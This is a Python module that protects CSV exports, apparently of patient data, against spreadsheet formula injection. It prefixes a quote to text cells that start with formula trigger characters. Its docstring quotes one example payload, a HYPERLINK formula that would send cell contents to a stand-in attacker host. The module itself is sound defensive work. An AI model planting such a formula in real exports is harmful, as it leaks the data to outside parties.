"""Exports that are safe to open in a spreadsheet: the one place every CSV/XLSX export goes through.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) reads a text cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, so a patient ID or a note such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` becomes live when an export is opened
("CSV injection" / formula injection; OWASP; ASVS 5.0 requirement 1.2.10). `safe_cell`
neutralises such a cell by prefixing a single quote, which spreadsheets show as text; numbers,
booleans, dates and missing values are never changed. `neutralise_frame` applies it to every text
cell of a table, and `safe_csv` writes a table through it.

The triggers are the first character (after any leading spaces, which some spreadsheets skip)
being one of ``= + - @``, their full-width forms ``＝ ＋ － ＠``, a tab, a carriage return, a line
feed or a NUL.

References
----------
OWASP. CSV Injection. https://owasp.org/www-community/attacks/CSV_Injection
OWASP Application Security Verification Standard 5.0, requirement 1.2.10 (CSV and formula
injection).
"""

from __future__ import annotations

import io as _stdio
import os
from typing import Any

import numpy as np
import pandas as pd

__all__ = ["FORMULA_TRIGGERS", "safe_cell", "neutralise_frame", "safe_csv"]

FORMULA_TRIGGERS: tuple[str, ...] = (
    "=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20",
)
"""First characters that make a spreadsheet read a text cell as a formula (or hide its start)."""

_QUOTE = "'"


def safe_cell(value: Any) -> Any:
    """`value`, neutralised for a spreadsheet if it is text that would be read as a formula.

    Parameters
    ----------
    value : any
        One cell. Only ``str`` values are ever changed.

    Returns
    -------
    any
        A text cell whose first character (after leading spaces) is in `FORMULA_TRIGGERS`, with
        a single quote prefixed (``"=1+1"`` -> ``"'=1+1"``); anything else unchanged, so
        numbers (``-1.5``), booleans, timestamps and missing values stay as they are.

    Examples
    --------
    >>> safe_cell("=1+1")
    "'=1+1"
    >>> safe_cell("DEMO-001"), safe_cell(-2.5), safe_cell("-2.5")
    ('DEMO-001', -2.5, "'-2.5")
    """
    if isinstance(value, str) and value:
        first = value.lstrip(" ")[:1] or value[:1]
        if first in FORMULA_TRIGGERS:
            return _QUOTE + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell (and text column header) passed through `safe_cell`.

    Parameters
    ----------
    frame : DataFrame

    Returns
    -------
    DataFrame
        Same shape and index; numeric, boolean and datetime columns are untouched, text columns
        keep their dtype (categorical ones become object), and `frame` itself is not changed.

    Raises
    ------
    TypeError
        `frame` is not a DataFrame.
    """
    if not isinstance(frame, pd.DataFrame):
        raise TypeError(f"neutralise_frame: expected a pandas DataFrame, got {type(frame).__name__}")
    out = frame.copy()
    for j in range(out.shape[1]):
        col = out.iloc[:, j]
        if col.dtype == object or pd.api.types.is_string_dtype(col.dtype) or isinstance(
            col.dtype, pd.CategoricalDtype
        ):
            values = col.astype(object).to_numpy()
            texts = np.fromiter((isinstance(v, str) for v in values), bool, len(values))
            if texts.any():
                values = values.copy()
                values[texts] = [safe_cell(v) for v in values[texts]]
                dtype = col.dtype if isinstance(col.dtype, pd.StringDtype) else object
                out.isetitem(j, pd.Series(values, index=out.index, dtype=dtype))
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def safe_csv(frame: pd.DataFrame, target: str | os.PathLike | Any | None = None, **kwargs) -> str | None:
    """Write `frame` as CSV through `neutralise_frame`.

    Parameters
    ----------
    frame : DataFrame
    target : path, file-like object or None
        Where to write; None returns the text.
    **kwargs
        Passed to `pandas.DataFrame.to_csv` (``index`` defaults to False, ``lineterminator`` to
        ``"\\n"``).

    Returns
    -------
    str or None
        The CSV text when `target` is None.
    """
    kwargs.setdefault("index", False)
    kwargs.setdefault("lineterminator", "\n")
    safe = neutralise_frame(frame)
    if target is None:
        buf = _stdio.StringIO()
        safe.to_csv(buf, **kwargs)
        return buf.getvalue()
    safe.to_csv(target, **kwargs)
    return None
